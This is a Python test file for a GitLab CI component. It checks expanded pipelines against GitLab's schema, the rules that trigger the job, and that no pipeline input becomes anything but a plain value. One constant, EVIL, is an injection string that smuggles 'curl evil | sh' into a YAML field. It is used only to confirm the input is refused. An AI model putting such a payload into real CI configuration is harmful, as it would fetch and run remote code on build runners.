"""The component and the pipelines that the documentation offers: by GitLab's published schema, inputs filled in."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.gitlab_ci.component import PLACE, Refused, expand, header
from tests.gitlab_ci.conditions import chosen, holds
from tests.gitlab_ci.pipelines import ROOT, TEMPLATE

EXAMPLES = sorted((ROOT / "docs" / "gitlab").glob("*.yml"))
EVIL = 'x"\n    - curl evil | sh\n#'


def checked(pipeline: dict[str, Any], folder: Path) -> tuple[int, str]:
    file = folder / "pipeline.json"
    file.write_text(json.dumps(pipeline))
    argv = [f"{Path(sys.executable).parent}/check-jsonschema", "--builtin-schema", "vendor.gitlab-ci"]
    done = subprocess.run(
        [*argv, "--data-transform", "gitlab-ci", str(file)], capture_output=True, text=True, check=False
    )
    return done.returncode, done.stdout + done.stderr


@pytest.mark.parametrize(
    "inputs",
    [
        {},
        {"image": "registry.example.com/promoter@sha256:00", "job": "ship", "stage": ".post", "branches": "/^env$/"},
        {"merge_requests": True, "pages": True},
        {"app": "shop", "images": "ghcr.io/acme/shop=1.4.2 b:5000/c=2@sha256:aa", "say": 'hold shop "INC-412: $HOME"'},
        {"app": "shop", "version": "1.4.2", "labels": "hotfix, team/eu 1"},
    ],
)
def test_the_component_by_the_schema(inputs: dict[str, object], tmp_path: Path) -> None:
    code, said = checked(expand(TEMPLATE, inputs), tmp_path)
    assert code == 0, said


@pytest.mark.parametrize("file", EXAMPLES, ids=lambda file: file.name)
def test_the_examples_by_the_schema(file: Path, tmp_path: Path) -> None:
    code, said = checked(expand(file), tmp_path)
    assert code == 0, said


def test_the_schema_would_find_something(tmp_path: Path) -> None:
    pipeline = expand(TEMPLATE)
    pipeline["promoter"]["resource_groups"] = "promoter"
    code, said = checked(pipeline, tmp_path)
    assert code != 0
    assert "resource_groups" in said


@pytest.mark.parametrize("name", ["app", "version", "images", "labels", "say"])
def test_no_input_of_a_pipeline_becomes_anything_but_a_value(name: str) -> None:
    plain = expand(TEMPLATE)
    with pytest.raises(Refused):
        expand(TEMPLATE, {name: EVIL})
    for text in ('"', "'", "$PROMOTER_TOKEN", ": {", "- a", "#", "|", "\\"):
        try:
            made = expand(TEMPLATE, {name: text})
        except Refused:
            assert name != "say"
            continue
        plain["promoter"]["variables"][f"PROMOTER_{name.upper()}"] = {"value": text, "expand": False}
        assert made == plain


def test_no_script_holds_an_input() -> None:
    text = TEMPLATE.read_text("utf-8").partition("\n---\n")[2]
    script = text.partition("  script:\n")[2].partition("  resource_group:")[0]
    assert script == "    - promoter gitlab-ci\n"
    assert {match["path"] for match in PLACE.finditer(text)} == {
        f"inputs.{name}" for name in header(TEMPLATE.read_text())
    }


def test_the_plain_job_is_the_component_without_its_inputs() -> None:
    [plain] = expand(ROOT / "docs" / "gitlab" / "promoter.yml").values()
    [whole] = expand(TEMPLATE).values()
    assert set(whole) - set(plain) == {"pages"}
    whole["rules"] = [rule for rule in whole["rules"] if "merge_request_event" not in rule["if"]]
    whole["variables"] = {"GIT_STRATEGY": "none"}
    whole["artifacts"]["paths"].remove("public/")
    del whole["pages"]
    assert plain == whole


@pytest.mark.parametrize(
    ("source", "branch", "ran"),
    [
        ("push", "main", True),
        ("push", "environment/prod", True),
        ("push", "environment/prod-next", False),
        ("push", "environment/prod-next/shop", False),
        ("push", "feature", False),
        ("push", "promoter/prod/shop", False),
        ("schedule", "main", True),
        ("schedule", "feature", False),
        ("trigger", "main", True),
        ("web", "main", True),
        ("api", "main", True),
        ("web", "feature", False),
        ("merge_request_event", "", False),
        ("external", "main", False),
    ],
)
def test_what_runs_the_job(source: str, branch: str, ran: bool) -> None:
    known = {"CI_PIPELINE_SOURCE": source, "CI_COMMIT_BRANCH": branch, "CI_DEFAULT_BRANCH": "main"}
    known = {name: value for name, value in known.items() if value}
    for file in (TEMPLATE, ROOT / "docs" / "gitlab" / "promoter.yml"):
        [job] = expand(file).values()
        assert chosen(job["rules"], known) is ran


def test_merge_requests_run_it_when_asked() -> None:
    [job] = expand(TEMPLATE, {"merge_requests": True}).values()
    assert chosen(job["rules"], {"CI_PIPELINE_SOURCE": "merge_request_event", "CI_DEFAULT_BRANCH": "main"})


def test_conditions_are_read_as_gitlab_reads_them() -> None:
    known = {"A": "x", "B": "", "C": "x/y"}
    for text in ('$A == "x"', "$B == ''", "$C =~ /^x\\/y$/", '$A == "y" || $A == "x" && $C', "$A == $A", "$A != $B"):
        assert holds(text, known), text
    for text in ("$B", "$D", '$D == "x"', "$D =~ /x/", "$A !~ /x/", '($A == "x" || $A) && $B'):
        assert not holds(text, known), text
    with pytest.raises(AssertionError):
        holds("$A === 1", known)


def test_what_is_no_component_is_refused(tmp_path: Path) -> None:
    file = tmp_path / "template.yml"
    file.write_text("spec:\n  inputs:\n    a: {}\n---\njob: {script: ['$[[ inputs.b ]]']}\n")
    for given in ({}, {"a": "1"}, {"a": 1}, {"a": "1", "c": "1"}):
        with pytest.raises(Refused):
            expand(file, given)


def test_the_documentation_names_every_input_variable_and_report() -> None:
    text = (ROOT / "docs" / "gitlab.md").read_text("utf-8")
    names = list(header(TEMPLATE.read_text("utf-8")))
    names += [
        "PROMOTER_APP",
        "PROMOTER_VERSION",
        "PROMOTER_IMAGES",
        "PROMOTER_SAY",
        "PROMOTER_TOKEN",
        "TRIGGER_PAYLOAD",
    ]
    names += [f"PROMOTER_{name}" for name in ("MERGED", "OPENED", "RELEASED", "WAITING", "FAILED", "NEXT_LOOK", "PLAN")]
    names += [
        "promoter-report/junit.xml",
        "promoter-report/status.md",
        "promoter-report/plan.json",
        "public/index.html",
    ]
    assert [name for name in names if f"`{name}`" not in text] == []
    linked = set(re.findall(r"\(gitlab/([\w.-]+)\)", text))
    assert linked == {file.name for file in EXAMPLES}
